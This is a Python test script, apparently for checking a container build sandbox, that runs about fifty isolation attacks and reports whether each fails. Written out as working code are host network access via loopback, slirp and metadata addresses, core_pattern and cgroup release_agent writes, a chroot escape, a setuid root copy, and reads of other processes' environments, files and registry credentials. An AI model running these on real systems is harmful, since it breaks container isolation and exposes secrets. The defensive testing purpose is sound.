"""Attacks from inside a RUN step. Each prints one line: VERDICT name succeeded|failed what-happened."""
import ctypes
import fcntl
import glob
import http.server
import json
import os
import signal
import socket
import struct
import subprocess
import sys
import threading
import urllib.request

TARGETS = json.load(open("targets.json"))
OWN, PORT = TARGETS["address"], TARGETS["port"]
LIBC = ctypes.CDLL(None, use_errno=True)
X86 = os.uname().machine == "x86_64"
SYSCALLS = {"clone": (56, 220), "keyctl": (250, 219), "init_module": (175, 105), "open_by_handle_at": (304, 265),
            "bpf": (321, 280), "perf_event_open": (298, 241), "userfaultfd": (323, 282), "name_to_handle_at": (303, 264)}
ATTACKS = []


def attack(function):
    ATTACKS.append(function)
    return function


def call(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def syscall(name, *arguments):
    number = SYSCALLS[name][0 if X86 else 1]
    return call(LIBC.syscall(ctypes.c_long(number), *[ctypes.c_void_p(a) if isinstance(a, int) else a for a in arguments]))


def in_child(function):
    """What the function returns, in a process that may ruin itself."""
    reading, writing = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.write(writing, str(function()).encode())
            os._exit(0)
        except BaseException as e:
            os.write(writing, repr(e).encode())
            os._exit(1)
    os.close(writing)
    text = os.read(reading, 4000).decode()
    if os.waitpid(pid, 0)[1] != 0:
        raise OSError(text)
    return text


def fetch(url):
    return urllib.request.build_opener(urllib.request.ProxyHandler({})).open(url, timeout=4).read().decode()


def served(text):
    if text != TARGETS["answer"]:
        raise OSError("somebody else answered")
    return text


def secret(text):
    if TARGETS["secret"] not in text:
        raise OSError("the secret is not there")
    return "read"


def talk(family, address, port=PORT, device=None):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(4)
        if device:
            s.setsockopt(socket.SOL_SOCKET, 25, device.encode() + b"\0")  # SO_BINDTODEVICE
        s.connect((address, port))
        s.sendall(b"GET / HTTP/1.0\r\n\r\n")
        text = b""
        while part := s.recv(4096):
            text += part
        return served(text.decode().split("\r\n\r\n")[-1])


@attack
def host_loopback():
    return fetch(f"http://127.0.0.1:{PORT}/") and "answered"


@attack
def host_loopback_v6():
    return talk(socket.AF_INET6, "::1")


@attack
def loopback_alias_of_slirp():
    return talk(socket.AF_INET, "10.0.2.2")


@attack
def name_server_alias_of_slirp():
    return talk(socket.AF_INET, "10.0.2.3")


@attack
def other_addresses_of_slirp():
    return talk(socket.AF_INET, "10.0.2.77")


@attack
def hosts_own_address():
    return talk(socket.AF_INET, OWN)


@attack
def address_mapped_into_v6():
    return talk(socket.AF_INET6, "::ffff:" + OWN)


@attack
def address_written_as_a_number():
    return talk(socket.AF_INET, str(struct.unpack("!I", socket.inet_aton(OWN))[0]))


@attack
def name_that_leads_inside():
    with open("/etc/hosts", "a") as hosts:
        hosts.write(f"{OWN} innocent.example\n")
    return talk(socket.AF_INET, "innocent.example")


@attack
def redirect_that_leads_inside():
    class Redirect(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(302)
            self.send_header("Location", f"http://{OWN}:{PORT}/")
            self.end_headers()

        def log_message(self, *arguments):
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Redirect)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return served(fetch(f"http://127.0.0.1:{server.server_address[1]}/"))


@attack
def datagram_to_the_host():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(4)
        s.sendto(b"hello", (OWN, TARGETS["datagrams"]))
        return served(s.recv(100).decode())


@attack
def socket_bound_to_the_interface():
    devices = [name for _, name in socket.if_nameindex() if name != "lo"]
    return talk(socket.AF_INET, OWN, device=(["tap0"] + devices)[-1] if "tap0" not in devices else "tap0")


@attack
def multicast_on_the_hosts_network():
    devices = [name for _, name in socket.if_nameindex()]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(4)
        device = "tap0" if "tap0" in devices else TARGETS["interface"]
        s.setsockopt(socket.SOL_SOCKET, 25, device.encode() + b"\0")  # SO_BINDTODEVICE: past routes that lead nowhere
        s.sendto(b"hello", (TARGETS["group"], TARGETS["datagrams"]))
        return served(s.recv(100).decode())


@attack
def metadata_address():
    return talk(socket.AF_INET, "169.254.169.254", 80)


@attack
def private_ranges():
    errors = []
    for address in ("10.0.0.1", "172.16.0.1", "192.168.0.1", "100.64.0.1", "198.18.0.1", "192.0.0.192"):
        try:
            socket.create_connection((address, 80), 2).close()
            return address
        except OSError as e:
            errors.append(e.errno or "silence")
    raise OSError(" ".join(map(str, errors)))


@attack
def unique_local_v6():
    with socket.socket(socket.AF_INET6) as s:
        s.settimeout(2)
        s.connect(("fd00:ec2::254", 80))
    return "connected"


@attack
def raw_socket():
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)


@attack
def packet_socket():
    return socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300)


@attack
def hypervisor_socket():
    return socket.socket(40, socket.SOCK_STREAM) and "made"


@attack
def adding_a_route():
    def sockaddr(address):
        return struct.pack("=HH4s8x", socket.AF_INET, 0, socket.inet_aton(address))

    entry = struct.pack("=Q16s16s16sHhIQBBhQ", 0, sockaddr(OWN), sockaddr("10.0.2.2"), sockaddr("255.255.255.255"), 7, 0, 0,
                        0, 0, 0, 0, 0) + b"\0" * 64
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        return fcntl.ioctl(s, 0x890B, entry)  # SIOCADDRT


@attack
def changing_an_interface():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        return fcntl.ioctl(s, 0x8914, struct.pack("16sh22x", b"lo", 0))  # SIOCSIFFLAGS: down


@attack
def abstract_socket_of_the_host():
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(2)
        s.connect("\0" + TARGETS["abstract"])
        return served(s.recv(100).decode())


@attack
def mounting():
    os.makedirs("/tmp/mounted", exist_ok=True)
    return call(LIBC.mount(b"tmpfs", b"/tmp/mounted", b"tmpfs", 0, None))


@attack
def unmounting_what_is_masked():
    return call(LIBC.umount2(b"/proc/keys", 2))


@attack
def reading_a_disk_by_a_device_of_its_own():
    os.mknod("/tmp/disk", 0o60666, os.makedev(*TARGETS["disk"]))
    return open("/tmp/disk", "rb").read(1)


@attack
def physical_memory():
    return open("/dev/mem", "rb").read(1)


@attack
def kernel_memory():
    text = open("/proc/kcore", "rb").read(4)
    if not text:
        raise OSError("it is masked")
    return text


@attack
def core_pattern():
    return open("/proc/sys/kernel/core_pattern", "w").write("|/tmp/handler") and "written"


@attack
def sysrq():
    with open("/proc/sysrq-trigger", "w") as trigger:
        trigger.write("h")  # prints help to the kernel's log; does no harm where it works
    return "written"


@attack
def loading_a_module():
    return syscall("init_module", ctypes.create_string_buffer(b"\x7fELF", 64), 64, ctypes.c_char_p(b""))


@attack
def cgroup_release_agent():
    agents = glob.glob("/sys/fs/cgroup/*/release_agent") + glob.glob("/sys/fs/cgroup/release_agent")
    if not agents:
        raise OSError("no control groups to be seen")
    for agent in agents:
        open(agent, "w").write("/tmp/handler")
    return agents


@attack
def new_user_namespace():
    return in_child(lambda: call(LIBC.unshare(0x10000000)))


@attack
def new_user_namespace_by_clone():
    def clone():
        pid = syscall("clone", 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)
        if pid == 0:
            os._exit(0)
        os.waitpid(pid, 0)
        return "cloned"

    return in_child(clone)


@attack
def set_user_id_program():
    subprocess.run("cp /usr/bin/id /tmp/rootid && chmod 4755 /tmp/rootid", shell=True, check=True)

    def as_nobody():
        os.setgroups([])
        os.setgid(65534)
        os.setuid(65534)
        return subprocess.run(["/tmp/rootid", "-u"], capture_output=True, text=True, check=True).stdout.strip()

    user = in_child(as_nobody)
    if user != "0":
        raise OSError("runs as " + user)
    return "became root"


@attack
def keyrings_of_the_host():
    return syscall("keyctl", 0, ctypes.c_long(-4), 1) and "opened"  # the user's keyring


@attack
def loading_bpf():
    return syscall("bpf", 0, ctypes.create_string_buffer(128), 128)


@attack
def watching_the_machine_by_perf():
    return syscall("perf_event_open", ctypes.create_string_buffer(128), -1, 0, -1, 0)


@attack
def user_faults():
    return syscall("userfaultfd", 1)  # UFFD_USER_MODE_ONLY, which needs no capability


@attack
def files_by_handle():
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136)
    mount = ctypes.c_int()
    syscall("name_to_handle_at", ctypes.c_long(-100), ctypes.c_char_p(b"/etc/hosts"), handle, ctypes.byref(mount), 0)
    return "got a handle"


def beyond_the_root(path):
    def leave():
        os.makedirs("/tmp/below", exist_ok=True)
        os.chroot("/tmp/below")
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        return open(path).read()

    return in_child(leave)


def from_outside(path):
    """By its own path, by any process that sees it, or from beyond the root."""
    for seen in [path] + glob.glob("/proc/[0-9]*/root" + path):
        try:
            return open(seen).read()
        except OSError:
            pass
    return beyond_the_root(path)


@attack
def leaving_the_root():
    return secret(beyond_the_root(TARGETS["file"]))


@attack
def environment_of_the_service():
    return secret(open(f"/proc/{TARGETS['pid']}/environ").read())


@attack
def files_of_the_service():
    return secret(from_outside(TARGETS["file"]))


@attack
def context_of_another_build():
    return secret(from_outside(TARGETS["other"]))


@attack
def registry_credentials_of_this_build():
    if "auths" not in from_outside(TARGETS["auth"]):
        raise OSError("no credentials")
    return "read"


@attack
def processes_of_the_host():
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            if TARGETS["marker"].encode() in open(path, "rb").read():
                return "seen"
        except OSError:
            pass  # it has just ended
    raise OSError("none of them is to be seen")


@attack
def capabilities_without_being_root():
    def as_nobody():
        os.setgid(65534)
        os.setuid(65534)
        os.execv(sys.executable, [sys.executable, "-c", "import os; os.chown('/etc/passwd', 65534, 65534)"])

    try:
        in_child(as_nobody)
        if os.stat("/etc/passwd").st_uid != 65534:
            raise OSError("it failed")
        return "took /etc/passwd"
    finally:
        os.chown("/etc/passwd", 0, 0)


def main(names):
    for function in ATTACKS:
        if names and function.__name__ not in names:
            continue
        try:
            what, result = "succeeded", function()
        except (OSError, subprocess.SubprocessError, OverflowError) as e:
            what, result = "failed", e
        print("VERDICT", function.__name__, what, str(result).replace("\n", " ")[:200], flush=True)


main(sys.argv[1:])
